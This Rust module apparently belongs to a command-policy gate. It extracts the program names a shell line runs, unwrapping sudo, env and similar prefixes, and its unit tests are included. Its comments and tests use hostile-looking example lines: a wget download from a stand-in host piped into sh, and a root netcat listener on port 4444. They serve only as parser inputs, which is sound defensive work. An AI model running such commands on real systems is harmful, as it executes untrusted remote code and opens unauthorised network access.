//! Command lines as the models see them: the names of the programs a line runs (`cd /tmp &&
//! wget http://x/a -O- | sh` runs `cd`, `wget`, `sh`), with their arguments for the rules that
//! need them.

use otgate_policy::scope::lex;

/// Longest program name kept.
const MAX_NAME: usize = 40;
/// Most programs taken from one line.
const MAX_PROGRAMS: usize = 64;

/// Prefixes that run the next word: `sudo nc ...` runs `nc`.
const WRAPPERS: [&str; 9] = [
    "sudo", "nohup", "busybox", "env", "exec", "command", "nice", "time", "doas",
];

/// One program run by a line, with its arguments.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Program {
    /// The program's name without its directory (`/usr/bin/wget` is `wget`).
    pub name: String,
    /// The program as written (`./x`, `/tmp/.x/run`).
    pub path: String,
    /// Its arguments.
    pub args: Vec<String>,
}

fn basename(word: &str) -> String {
    let name = word.rsplit('/').next().unwrap_or(word);
    name.chars().take(MAX_NAME).collect()
}

fn program(argv: &[String]) -> Option<Program> {
    let is_assignment = |w: &String| {
        w.split_once('=').is_some_and(|(name, _)| {
            !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
        })
    };
    let mut i = argv.iter().take_while(|w| is_assignment(w)).count();
    while let Some(word) = argv.get(i) {
        if !WRAPPERS.contains(&word.as_str()) {
            break;
        }
        i += 1;
        // The wrapper's options (`sudo -u root x`, `nice -n 5 x`) up to the program.
        while let Some(option) = argv.get(i) {
            if matches!(option.as_str(), "-u" | "-g" | "-n" | "-C") {
                i += 2;
            } else if option.starts_with('-') || is_assignment(option) {
                i += 1;
            } else {
                break;
            }
        }
    }
    let path = argv.get(i)?;
    let name = basename(path);
    (!name.is_empty()).then(|| Program {
        name,
        path: path.chars().take(256).collect(),
        args: argv.iter().skip(i + 1).cloned().collect(),
    })
}

/// The programs a command line runs, in order. Lines the shell lexer cannot read are split on
/// `;`, `&`, `|` and newlines instead, so nothing is lost to odd syntax.
pub fn programs(line: &str) -> Vec<Program> {
    let mut out = Vec::new();
    match lex(line) {
        Ok(parsed) => {
            for command in parsed.commands.iter().take(MAX_PROGRAMS) {
                if let Some(p) = program(&command.argv()) {
                    out.push(p);
                }
            }
        }
        Err(_) => {
            for part in line
                .split([';', '&', '|', '\n'])
                .filter(|p| !p.trim().is_empty())
                .take(MAX_PROGRAMS)
            {
                let argv: Vec<String> = part.split_whitespace().map(str::to_owned).collect();
                if let Some(p) = program(&argv) {
                    out.push(p);
                }
            }
        }
    }
    out
}

/// The program names alone.
pub fn names(line: &str) -> Vec<String> {
    programs(line).into_iter().map(|p| p.name).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lines_become_program_names() {
        assert_eq!(names("ls -la"), ["ls"]);
        assert_eq!(
            names("cd /tmp && wget http://x/a -O- | sh"),
            ["cd", "wget", "sh"]
        );
        assert_eq!(names("sudo -u root /usr/bin/nc -l 4444"), ["nc"]);
        assert_eq!(names("LANG=C nice -n 5 make"), ["make"]);
        assert_eq!(names("echo $(uname -a)"), ["uname", "echo"]);
        // The lexer refuses this; the fallback still finds the programs.
        assert_eq!(
            names("cat /proc/cpuinfo | grep name ; echo 'x"),
            ["cat", "grep", "echo"]
        );
        assert!(names("").is_empty());
        let p = programs("ssh admin@10.0.0.7");
        assert_eq!(
            p.first().map(|p| p.args.clone()),
            Some(vec!["admin@10.0.0.7".to_owned()])
        );
    }
}
